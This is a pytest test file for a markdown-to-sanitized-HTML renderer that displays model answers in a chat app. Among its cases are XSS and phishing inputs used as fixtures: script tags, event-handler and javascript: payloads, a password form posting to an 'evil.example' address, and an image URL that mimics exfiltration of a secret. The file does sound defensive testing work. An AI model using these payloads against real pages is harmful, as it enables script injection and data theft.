"""conversations.markdown.render: markdown in, sanitized HTML out."""

from __future__ import annotations

import re
from typing import Any

import pytest
from django.template import Context, Template
from pygments.token import STANDARD_TYPES  # type: ignore[import-untyped]

from conversations import markdown
from conversations.markdown import render


def test_it_renders_headings_and_lists():
    html = render("# Title\n\n## Sub\n\n- one\n- two\n\n1. first\n2. second")

    assert "<h1>Title</h1>" in html
    assert "<h2>Sub</h2>" in html
    assert "<ul>\n<li>one</li>\n<li>two</li>\n</ul>" in html
    assert "<ol>\n<li>first</li>\n<li>second</li>\n</ol>" in html


def test_it_renders_tables():
    html = render("| a | b |\n| --- | --- |\n| 1 | 2 |")

    assert "<table>" in html
    assert "<thead>" in html
    assert "<th>a</th>" in html
    assert "<td>2</td>" in html


def test_it_keeps_table_column_alignment():
    # The allow-list keeps `align` on cells for this; the inline style Python-Markdown
    # writes by default would be stripped by the sanitizer.
    html = render("| a | b |\n| --- | ---: |\n| 1 | 2 |")

    assert '<td align="right">2</td>' in html


def test_it_highlights_fenced_code_with_pygments():
    html = render("```python\ndef greet():\n    return 'hi'\n```")

    assert '<div class="language-python codehilite">' in html
    assert '<span class="k">def</span>' in html
    assert '<span class="nf">greet</span>' in html


def test_it_removes_script_elements_and_their_content():
    html = render("before\n\n<script>alert('x')</script>\n\nafter")

    assert "<script" not in html.lower()
    assert "alert" not in html
    assert "after" in html


def test_it_removes_event_handler_attributes():
    html = render(
        '<img src="https://example.com/a.png" onerror="alert(1)">\n\n<p onclick="x()">hi</p>'
    )

    assert "onerror" not in html
    assert "onclick" not in html
    assert 'href="https://example.com/a.png"' in html


def test_it_drops_the_href_of_javascript_links():
    html = render('[click me](javascript:alert(1)) and <a href="JaVaScRiPt:alert(2)">raw</a>')

    assert "javascript" not in html.lower()
    anchors = re.findall(r"<a\b[^>]*>", html)
    assert len(anchors) == 2
    assert all("href" not in anchor for anchor in anchors)


def test_it_keeps_http_links_with_a_safe_rel():
    html = render("[docs](https://example.com/docs)")

    assert 'href="https://example.com/docs"' in html
    assert 'rel="noopener noreferrer nofollow"' in html


def test_it_removes_iframes_and_style_elements():
    html = render(
        '<iframe src="https://evil.example"></iframe>\n\n<style>body{display:none}</style>\n\nok'
    )

    assert "<iframe" not in html.lower()
    assert "<style" not in html.lower()
    assert "display:none" not in html
    assert "ok" in html


def test_it_removes_data_urls_from_images():
    html = render("![pixel](data:image/png;base64,iVBORw0KGgo=)")

    assert "data:" not in html
    # An image left without an address is its alt text.
    assert html == "<p>pixel</p>"


def test_it_escapes_plain_text():
    assert render("a < b & c") == "<p>a &lt; b &amp; c</p>"


def test_it_escapes_html_inside_code():
    html = render("`<b>not bold</b>`")

    assert "<code>&lt;b&gt;not bold&lt;/b&gt;</code>" in html


# --- Remote images (issue 7, item 7) --------------------------------------------------


def test_images_in_model_output_become_links_by_default():
    html = render('![x](http://127.0.0.1:9/exfil?d=secret) and <img src="https://a.example/b.png">')

    assert "<img" not in html
    assert (
        '<a href="http://127.0.0.1:9/exfil?d=secret" class="remote-image"'
        ' rel="noopener noreferrer nofollow">x</a>'
    ) in html
    # No alt text: the address is the link's text.
    assert ">https://a.example/b.png</a>" in html


def test_an_image_link_escapes_its_alt_text():
    html = render('<img src="https://a.example/b.png" alt="&quot;><script>x</script>">')

    assert "<script" not in html
    assert '>"&gt;&lt;script&gt;x&lt;/script&gt;</a>' in html


def test_images_load_when_the_admin_allows_remote_images(settings: Any):
    settings.ALLOW_REMOTE_IMAGES = True

    html = render("![x](https://a.example/b.png)")

    assert '<img alt="x" src="https://a.example/b.png">' in html


def test_the_page_applies_todays_image_setting_to_stored_html(settings: Any):
    settings.ALLOW_REMOTE_IMAGES = True
    stored = render("![x](https://a.example/b.png)")
    settings.ALLOW_REMOTE_IMAGES = False

    shown = Template("{% load markdown %}{{ html|message_html }}").render(Context({"html": stored}))

    assert "<img" not in shown
    assert 'class="remote-image"' in shown


# --- One allow-list (issue 7, item 8) ------------------------------------------------


def test_it_removes_forms_and_inputs_keeping_their_text():
    html = render(
        '<form action="https://evil.example/steal"><input name="password" placeholder="pw">'
        "<button>Sign in again</button></form>"
    )

    assert "<form" not in html
    assert "<input" not in html
    assert "<button" not in html
    assert "evil.example" not in html
    assert "Sign in again" in html


def test_it_removes_style_attributes():
    html = render('<div style="position:fixed;inset:0">cover</div>')

    assert "style" not in html
    assert "position" not in html
    assert html == "<div>cover</div>"


def test_it_keeps_only_the_renderers_own_classes():
    html = render(
        '<div class="callout-error msg">Answer failed</div>\n\n'
        '<span class="k nf toast">x</span> <code class="language-python bogus">y</code>'
    )

    assert "callout-error" not in html
    assert "toast" not in html
    assert "bogus" not in html
    assert "<div>Answer failed</div>" in html
    assert '<span class="k nf">x</span>' in html
    assert '<code class="language-python">y</code>' in html


def test_a_language_class_must_look_like_a_language():
    html = render('<code class="language-x&quot;y language-">z</code>')

    assert "class" not in html


@pytest.mark.parametrize("tag", ["iframe", "object", "embed", "textarea", "select", "svg"])
def test_it_removes_embedding_and_input_elements(tag: str):
    html = render(f"<{tag}>inside</{tag}> after")

    assert f"<{tag}" not in html
    assert "after" in html


def test_the_policy_names_every_pygments_token_class():
    token_classes = {name for name in STANDARD_TYPES.values() if name}

    assert token_classes <= set(markdown.policy()["classes"]["span"])


def test_the_policy_file_is_the_one_the_browser_loads():
    # render.js imports the same file through the import map (templates/base.html).
    base = (markdown.POLICY_PATH.parents[1] / "templates" / "base.html").read_text()
    assert "{% static 'render-policy.json' %}" in base
    assert markdown.POLICY_PATH.parent.name == "static"


# --- GitHub-flavoured, like the live renderer (issue 8, item 1) -----------------------


def test_it_strikes_through_double_tildes_only():
    html = render("~~gone~~ but H~2~O and ~5 min")

    assert html == "<p><del>gone</del> but H~2~O and ~5 min</p>"


def test_it_draws_task_list_boxes_without_form_fields():
    html = render("- [ ] to do\n- [x] done\n- [X] also done\n- [y] not a task")

    assert "<input" not in html
    assert '<li><span class="task-box">\u2610</span> to do</li>' in html
    assert '<li><span class="task-box task-done">\u2611</span> done</li>' in html
    assert '<li><span class="task-box task-done">\u2611</span> also done</li>' in html
    assert "<li>[y] not a task</li>" in html


def test_it_links_bare_urls():
    html = render("See https://example.com/a?b=1 and www.example.org.")

    assert '<a href="https://example.com/a?b=1" rel="noopener noreferrer nofollow">' in html
    assert '<a href="http://www.example.org" rel="noopener noreferrer nofollow">' in html


@pytest.mark.parametrize("indent", [2, 3, 4])
def test_it_nests_lists_indented_by_two_three_or_four_spaces(indent: int):
    pad = " " * indent
    html = render(f"- a\n{pad}- b\n{pad}{pad}- c\n- d")

    assert html == (
        "<ul>\n<li>a<ul>\n<li>b<ul>\n<li>c</li>\n</ul>\n</li>\n</ul>\n</li>\n<li>d</li>\n</ul>"
    )


def test_it_nests_under_numbered_items_by_their_content_column():
    html = render("1. one\n   1. sub\n2. two")

    assert html == "<ol>\n<li>one<ol>\n<li>sub</li>\n</ol>\n</li>\n<li>two</li>\n</ol>"


def test_a_list_with_one_paragraph_item_is_loose_throughout():
    html = render("- a\n- b\n\n- c")

    assert html.count("<p>") == 3


def test_re_indenting_lists_leaves_code_alone():
    text = "```\n- a\n   - b\n```\n\n    indented code\n    - not a list"

    html = render(text)

    assert "- a\n   - b\n" in html
    assert "<code>indented code\n- not a list\n</code>" in html


def test_code_blocks_keep_their_language_for_the_label():
    html = render("```rust\nfn main() {}\n```\n\n```\nplain\n```\n\n```mermaid\ngraph TD\n```")

    assert '<div class="language-rust codehilite">' in html
    assert '<div class="language-text codehilite">' in html
    # Pygments has no lexer for it; the label (and diagrams.js) still needs the name.
    assert '<div class="language-mermaid codehilite">' in html


# --- Math (issue 8, item 2): TeX source kept for KaTeX in the browser ----------------


def test_inline_math_is_kept_as_tex_for_katex():
    html = render(r"Energy $E = mc^2$, \(a_b < c\) and `$code$`; between $5 and $6")

    assert r'<span class="arithmatex">\(E = mc^2\)</span>' in html
    assert r'<span class="arithmatex">\(a_b &lt; c\)</span>' in html
    assert "<code>$code$</code>" in html
    assert "between $5 and $6" in html  # a space inside the dollars: not math


def test_display_math_is_a_block_of_tex():
    html = render("$$\n\\frac{a}{b}\n$$\n\n\\[\nx^2\n\\]")

    assert html == (
        '<div class="arithmatex">\\[\n\\frac{a}{b}\n\\]</div>\n'
        '<div class="arithmatex">\\[\nx^2\n\\]</div>'
    )


def test_math_markup_cannot_smuggle_html():
    html = render(r"$<img src=x onerror=alert(1)>$")

    assert "<img" not in html
    assert "onerror=alert(1)&gt;" in html


# --- Math too deep to typeset (issue 17, finding 8) -----------------------------------

NESTED_200 = "x^{" * 200 + "x" + "}" * 200


def test_deeply_nested_math_is_marked_as_source_never_for_katex():
    """200 nested superscripts crashed Chromium's tab once KaTeX typeset them."""
    html = render(f"Before\n\n$${NESTED_200}$$\n\nand inline ${NESTED_200}$ too")

    assert "arithmatex" not in html
    assert html.count('class="math-source"') == 2
    assert html.startswith('<p>Before</p>\n<div class="math-source">\\[x^{x^{x^{')
    assert '<span class="math-source">\\(x^{x^{' in html


@pytest.mark.parametrize(
    ("tex", "depth"),
    [
        ("x^2 + y", 0),
        ("x^{2}", 1),
        (r"\frac{a}{\frac{b}{c}}", 2),
        (r"\left( \left[ x \right) \right.", 2),  # the delimiters are not groups
        (r"\sqrt[\sqrt[3]{x}]{y}", 2),  # an optional argument nests
        (r"[0, 1) + [2, 3]", 0),  # brackets not after a command do not
        (r"[0, 1) \cup [2, 3]", 1),  # after one they count (an over-count, balanced)
        (r"\{ \} \\", 0),
        ("}}}{{{", 3),
        ("x^{" * 200 + "x" + "}" * 200, 200),
    ],
)
def test_math_depth_counts_nesting(tex, depth):
    assert markdown.math_depth(tex) == depth


def test_the_depth_limit_is_the_policys_and_the_limit_itself_is_typeset():
    limit = markdown.policy()["math"]["maxDepth"]
    at = "x^{" * limit + "x" + "}" * limit
    over = "x^{" * (limit + 1) + "x" + "}" * (limit + 1)

    assert limit == 50
    assert render(f"$${at}$$").startswith('<div class="arithmatex">')
    assert render(f"$${over}$$").startswith('<div class="math-source">')


def test_a_deep_formula_made_of_brackets_or_delimiters_is_caught_too():
    sqrt = r"\sqrt[" * 60 + "x" + "]{y}" * 60
    left = r"\left(" * 60 + "x" + r"\right)" * 60

    assert 'class="math-source"' in render(f"$${sqrt}$$")
    assert 'class="math-source"' in render(f"$${left}$$")


def test_a_math_source_element_keeps_its_text_escaped():
    html = render("$$" + "{" * 60 + "<b>x</b>" + "}" * 60 + "$$")

    assert "<b>" not in html
    assert "&lt;b&gt;x&lt;/b&gt;" in html
    assert 'class="math-source"' in html


def test_one_document_leaves_nothing_behind_for_the_next():
    """The converter is reused (one per thread): each rendering equals a fresh one's."""
    documents = [
        "See [the docs][ref].\n\n[ref]: https://example.com/a\n",
        "Only text here: [the docs][ref]\n",
        "```python\nprint('a')\n```\n\n- [ ] task\n  - nested\n\n| a | b |\n|---|---|\n| 1 | 2 |\n",
        "Inline $x^2$ and ~~gone~~ and www.example.org\n",
        "```python\nprint('a')\n```\n",
    ]
    reused = [markdown.render(text) for text in documents]
    fresh = []
    for text in documents:
        markdown._converters.__dict__.clear()  # a new converter for each document
        fresh.append(markdown.render(text))
    assert reused == fresh
    # A reference defined in one answer is not a link in the next.
    assert "href" not in reused[1]
    assert reused[0].count("https://example.com/a") == 1
